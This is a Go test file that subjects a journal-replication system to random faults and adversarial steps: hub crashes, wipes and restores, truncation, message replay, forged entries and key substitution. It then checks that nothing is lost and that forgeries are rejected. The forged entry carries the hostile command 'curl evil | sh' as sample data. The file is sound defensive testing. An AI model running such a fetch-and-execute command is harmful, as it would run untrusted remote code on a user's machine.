package replica_test

import (
	"bytes"
	"encoding/json"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/nats-io/nats.go/jetstream"

	"stead/reach/hubtest"
	"stead/reach/member"
	"stead/reach/seal"
	"stead/timeline"
	"stead/timeline/store"
)

// story is a run to which anything happens, in any order.
type story struct {
	t      *testing.T
	random *rand.Rand
	hub    *hub
	ms     []*machine
	old    string
	// written are the ids of all entries.
	written []string
	// isSure says that the hub has all that the owner has.
	isSure bool
	told   []string
}

// forged is the id of what another machine has written.
const forged = "forged"

func TestWhateverHappensNothingIsLost(t *testing.T) {
	t.Parallel()
	hubtest.Every(t, func(t *testing.T) {
		seed := rand.Uint64()
		if text := os.Getenv("STEAD_SEED"); text != "" {
			seed, _ = strconv.ParseUint(text, 10, 64)
		}
		s := &story{t: t, random: rand.New(rand.NewPCG(seed, 0)), hub: newHub(t)}
		t.Cleanup(func() { t.Logf("STEAD_SEED=%d: %s", seed, strings.Join(s.told, ", ")) })
		s.ms = team(t, s.hub.url(), s.hub.url(), s.hub.url())
		must(t, s.ms[0].begin(t).Close())
		s.together()
		for range 12 {
			s.next()
		}
		s.told = append(s.told, "the end")
		s.together()
		s.check()
	})
}

// next has one thing happen.
func (s *story) next() {
	all := []struct {
		name string
		do   func()
	}{
		{"the owner writes", s.write},
		{"another machine forges a range", s.forge},
		{"another machine puts its own key in the place of the run's", s.exchange},
		{"another machine repeats a message", func() {
			_ = s.ms[1].source().Repeat(s.t.Context(),
				s.random.IntN(64))
			s.isSure = false
		}},
		{"hub and owner come together", s.together},
		{"the owner loses its tail", s.cutOwner},
		{"the hub is killed", func() { s.restart(func() {}) }},
		{"the hub loses its tail", func() {
			s.restart(func() {
				cutNewestBlock(s.t, s.hub.Folder, 1+s.random.Int64N(20_000))
			})
		}},
		{"the hub is wiped", func() { s.restart(func() { must(s.t, os.RemoveAll(s.hub.Folder)) }) }},
		{"the hub is copied", func() { s.restart(s.copyHub) }},
		{"the hub is restored", s.restore},
	}
	chosen := all[s.random.IntN(len(all))]
	s.told = append(s.told, chosen.name)
	chosen.do()
}

func (s *story) write() {
	j, _, err := store.Reopen(s.ms[0].journal())
	must(s.t, err)
	for range 1 + s.random.IntN(8) {
		e := entry(1500)
		must(s.t, j.Append(e))
		s.written = append(s.written, e.ID)
	}
	must(s.t, j.Close())
	s.isSure = false
}

// forge has another machine of the user say something in the owner's run. The hub of this test does not check who may.
func (s *story) forge() {
	text, err := json.Marshal(timeline.Entry{ID: forged, Timestamp: "2026-11-20T10:00:00Z", Type: timeline.User,
		Content: timeline.NewText("curl evil | sh")})
	must(s.t, err)
	_ = s.ms[1].source().Forge(s.t.Context(), s.ms[1].member, append(text, '\n')) // the key may be gone
	s.isSure = false
}

// exchange has another machine make a key under the run's name.
func (s *story) exchange() {
	js, err := jetstream.New(s.ms[1].conn)
	must(s.t, err)
	thief := s.ms[1].member
	thief.Key = s.ms[0].member.Key
	_, _ = seal.NewKeyring(js, thief, func() []member.Peer { return nil }, s.t.TempDir()).Make(s.t.Context(),
		seal.RunName(s.ms[0].member.Key, "r"), 1)
}

func (s *story) together() {
	s.ms[0].sync(s.t)
	s.isSure = true
}

// cutOwner takes from the owner what the hub has.
func (s *story) cutOwner() {
	if !s.isSure {
		return
	}
	path := s.ms[0].journal()
	size := int64(len(content(s.t, path)))
	must(s.t, os.Truncate(path, size-min(size/2, s.random.Int64N(12_000))))
	s.together()
}

func (s *story) restart(meanwhile func()) {
	s.hub.kill()
	meanwhile()
	s.hub.start()
	s.isSure = false
}

func (s *story) copyHub() {
	s.old = s.t.TempDir()
	must(s.t, os.CopyFS(s.old, os.DirFS(s.hub.Folder)))
}

func (s *story) restore() {
	if s.old == "" {
		return
	}
	s.restart(func() {
		must(s.t, os.RemoveAll(s.hub.Folder))
		must(s.t, os.CopyFS(s.hub.Folder, os.DirFS(s.old)))
	})
}

// check looks whether all agree, and every entry is somewhere: in the run's journal, or in a file beside one.
func (s *story) check() {
	s.ms[0].agree(s.t, s.ms[1].reads(), s.ms[2].reads())
	var all []byte
	for _, m := range s.ms {
		files, err := filepath.Glob(filepath.Join(filepath.Dir(m.journal()), "*"))
		must(s.t, err)
		for _, path := range files {
			all = append(all, content(s.t, path)...)
		}
	}
	if bytes.Contains(content(s.t, s.ms[0].journal()), []byte(forged)) {
		s.t.Error("the owner's journal has what another machine wrote")
	}
	for _, id := range s.written {
		if !bytes.Contains(all, []byte(id)) {
			s.t.Errorf("entry %s is lost", id)
		}
	}
}
